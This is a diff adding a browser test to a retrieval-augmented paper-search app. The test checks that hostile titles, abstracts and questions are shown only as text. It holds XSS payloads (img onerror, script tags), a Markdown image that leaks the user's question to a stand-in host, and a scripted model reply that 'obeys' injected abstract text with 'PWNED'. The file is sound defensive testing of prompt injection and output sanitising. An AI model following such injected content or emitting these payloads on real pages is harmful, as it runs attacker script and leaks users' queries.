@@ -337,3 +337,60 @@ def test_a_file_uploaded_in_the_page_is_answered_from(uploadable, small_corpus, 
     for i in range(metas.count()):
         assert "(2023)" in metas.nth(i).text_content()
     assert page.outside == [], page.outside
+
+
+# Read as an evidence selection it picks every sentence; the rest is what a model obeying
+# the abstracts would add (and, as a comparison's sentence, it is dropped as unsupported).
+OBEYING_REPLY = '{"sentences": [1, 2, 3, 4]} PWNED ![x](http://example.invalid/reply.png) <img src=x onerror=alert("reply")>'
+
+
+@pytest.fixture
+def hostile_page(tmp_path, real_embedder):
+    """The page on the hostile corpus of eval/hostile (a title with <img onerror>, an
+    abstract with <script>, one with a Markdown image leaking the question), answered
+    through a scripted server that obeys."""
+    from rag.corpus import load_corpus
+    from rag.index import PaperIndex
+    from rag.settings import Settings
+
+    settings = Settings(data_dir=tmp_path / "data", ui_port=0)
+    PaperIndex(settings, real_embedder).ingest(load_corpus([PROJECT_ROOT / "eval" / "hostile" / "papers.jsonl"]), progress=False)
+    with FaultServer("ok", reply=OBEYING_REPLY) as server:
+        settings = settings.model_copy(update={"llm_base_url": server.base_url})
+        app = build_app(open_pipeline(settings, embedder=real_embedder, llm=OpenAIChatLLM(settings, server.base_url, "scripted")))
+        yield launch(app, settings, block=False)
+        app.close()
+
+
+def test_hostile_titles_abstracts_and_questions_never_run_or_fetch(hostile_page, page):
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    fetched: list[str] = []  # an <img src=x> that rendered would fetch .../x from the page's own host
+    page.on("request", lambda r: fetched.append(r.url) if re.search(r"/x$|example\.invalid|reply\.png", r.url) else None)
+    _open(page, hostile_page)
+    questions = [
+        'How does ColorNorm deal with stain colour differences between laboratories? <img src=x onerror=alert("question")>',
+        "How does EchoSeg learn to segment the left ventricle without labels? ![q](http://example.invalid/q.png)",
+        "Compare EchoSeg and ColorNorm",
+    ]
+    for number, question in enumerate(questions, start=1):
+        page.fill("#rag-question textarea", question)
+        page.click("#rag-send")
+        page.wait_for_function(
+            f"() => document.querySelectorAll('#rag-chat .rag-sources').length >= {number}", timeout=ANSWER_TIMEOUT_MS
+        )
+        for summary in page.locator("#rag-chat .rag-sources").last.locator("summary").all():
+            summary.click()  # the abstracts open: their <script> and leaking image are shown, as text
+    page.wait_for_timeout(1_000)  # time for a handler or an image request to fire
+    assert dialogs == [] and fetched == [] and page.outside == [], (dialogs, fetched, page.outside)
+    chat = page.inner_text("#rag-chat")
+    assert "<img src=x onerror=alert(1)>" in chat  # the hostile title, shown as text
+    assert "<script>alert(2)</script>" in chat  # the abstract's script, as text
+    assert "![figure](http://example.invalid/collect?q=QUESTION)" in chat  # the leaking image, as text
+    assert 'onerror=alert("question")>' in chat and "![q](http://example.invalid/q.png)" in chat  # the questions
+    assert "PWNED" not in chat  # the obeying comparison sentence was dropped
+    remote = page.evaluate(
+        "() => [...document.querySelectorAll('#rag-chat img, #rag-chat script, #rag-chat iframe')].map(e => e.outerHTML)"
+        ".concat([...document.querySelectorAll('#rag-chat a')].map(a => a.href).filter(h => h.includes('example.invalid')))"
+    )
+    assert remote == []
